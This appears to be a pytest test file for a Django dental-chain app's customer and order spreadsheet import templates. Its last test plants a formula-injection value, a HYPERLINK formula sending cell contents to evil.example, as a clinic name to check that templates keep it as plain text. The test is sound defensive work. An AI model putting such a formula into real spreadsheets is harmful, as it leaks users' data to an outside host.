"""The import templates: every column the import reads is described, and a template filled with its own examples
imports without an error."""

import io

import openpyxl
import pytest
from django.urls import reverse

from smileloop.customers.enums import IdentityKind
from smileloop.customers.tests.factories import CustomerFactory, IdentityFactory
from smileloop.imports.services import customers_import, orders_import
from smileloop.imports.services.headers import CUSTOMER_HEADERS, ORDER_HEADERS
from smileloop.imports.services.template import template_columns, template_workbook


@pytest.mark.parametrize(("kind", "headers"), [("customers", CUSTOMER_HEADERS), ("orders", ORDER_HEADERS)])
def test_every_column_the_import_reads_is_described_once(chain, kind, headers):
    columns = template_columns(kind, chain_id=chain.id)

    assert sorted(c["field"] for c in columns) == sorted(headers)
    assert all(c["takes"] for c in columns), [c["field"] for c in columns if not c["takes"]]
    assert [c["header"] for c in columns if c["field"] == "name"] == ["姓名"]
    assert [c["header"] for c in template_columns(kind, chain_id=chain.id, english=True) if c["field"] == "name"] == [
        "name"]


@pytest.mark.parametrize("kind", ["customers", "orders"])
def test_a_template_filled_with_its_own_examples_imports_without_an_error(tmp_path, chain, clinic_a, catalogue, kind):
    # given the template, its header row filled with the examples its second sheet gives
    holder = CustomerFactory(chain=chain, name="张三", mobile="+8613800138000", home_clinic=clinic_a)
    IdentityFactory(customer=holder, kind=IdentityKind.PMS, external_id="P-1001")
    book = openpyxl.load_workbook(io.BytesIO(template_workbook(kind, chain_id=chain.id)))
    template, guide = book.worksheets
    headers = [cell.value for cell in template[1]]
    examples = {row[0].strip("「」"): row[4] for row in guide.iter_rows(min_row=2, values_only=True)}
    template.append([examples[header] for header in headers])
    path = tmp_path / f"{kind}.xlsx"
    book.save(path)

    # when it is checked
    run = customers_import if kind == "customers" else orders_import
    report = run(path=path, chain=chain, dry_run=True)

    # then every column is recognised and the row is valid
    assert set(report.columns) == set(headers) and not report.ignored_columns
    assert (report.rows, report.error_count) == (1, 0), report.errors


def test_the_import_page_offers_the_templates_and_lists_ones_recent_imports(client, director_a, clinic_a, settings,
                                                                          tmp_path):
    from django.core.files.uploadedfile import SimpleUploadedFile

    settings.SMILELOOP_IMPORT_DIR = tmp_path / "imports"
    client.force_login(director_a.user)
    client.post(reverse("imports:upload"), {"kind": "customers", "file": SimpleUploadedFile(
        "门诊患者.csv", "姓名,手机号\n张三,13800138000\n李四,12345\n".encode())})

    page = client.get(reverse("imports:upload"), HTTP_ACCEPT_LANGUAGE="zh-hans").content.decode()
    response = client.get(reverse("imports:template", args=["orders"]), HTTP_ACCEPT_LANGUAGE="zh-hans")

    assert reverse("imports:template", args=["customers"]) in page
    assert "门诊患者.csv" in page and "<td class=\"num\">2</td><td class=\"num\">1</td>" in page
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert "xlsx" in response["Content-Disposition"]
    headers = [c.value for c in openpyxl.load_workbook(io.BytesIO(response.content)).worksheets[0][1]]
    assert headers[:3] == ["订单号", "手机号", "病历号"]
    assert client.get(reverse("imports:template", args=["payments"])).status_code == 404


def test_a_template_that_lost_its_header_row_is_refused_not_read_from_its_guide(tmp_path, chain, clinic_a):
    from smileloop.imports.errors import ImportFileError

    book = openpyxl.load_workbook(io.BytesIO(template_workbook("customers", chain_id=chain.id)))
    book.worksheets[0].delete_rows(1)
    book.worksheets[0].append(["张三", "13800138000"])
    path = tmp_path / "no-header.xlsx"
    book.save(path)

    with pytest.raises(ImportFileError, match="No recognisable header"):
        customers_import(path=path, chain=chain, dry_run=True)


@pytest.mark.parametrize("language", ["zh-hans", "en"])
@pytest.mark.parametrize(("kind", "aliases"), [("customers", "CUSTOMER_ALIASES"), ("orders", "ORDER_ALIASES")])
def test_no_cell_of_the_guide_sheet_is_a_header_the_import_reads(chain, language, kind, aliases):
    from django.utils import translation

    from smileloop.imports.services import headers
    from smileloop.imports.services.reading import header_key

    with translation.override(language):
        guide = openpyxl.load_workbook(io.BytesIO(template_workbook(kind, chain_id=chain.id))).worksheets[1]
    known = getattr(headers, aliases)
    cells = [value for row in guide.iter_rows(values_only=True) for value in row if value]
    assert [value for value in cells if header_key(str(value)) in known] == []


@pytest.mark.parametrize("kind", ["customers", "orders"])
def test_a_clinic_named_like_a_formula_is_text_in_the_template_never_a_formula(chain, kind):
    # given a clinic whose name starts with "=" (the template's example comes from the chain's data)
    from smileloop.clinics.models import Clinic

    name = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    Clinic.objects.create(chain=chain, name=name, city="上海")
    # when the template is downloaded
    book = openpyxl.load_workbook(io.BytesIO(template_workbook(kind, chain_id=chain.id)))
    # then that example is in the guide as text, and no cell of any sheet is a formula
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert name in [cell.value for cell in cells]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
